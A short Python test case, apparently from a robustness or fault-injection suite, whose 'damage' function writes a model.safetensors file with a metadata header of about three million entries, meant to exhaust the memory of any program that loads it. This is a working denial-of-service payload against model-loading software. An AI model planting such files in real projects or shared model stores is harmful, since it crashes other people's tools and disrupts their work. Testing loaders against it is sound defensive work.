# tries: weights whose header of names fills the memory of whoever reads it
# place: notebook
def damage(notebook, folder):
    header = b'{"__metadata__":{' + b",".join(b'"%d":""' % number for number in range(3 << 20)) + b"}}"
    (folder / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
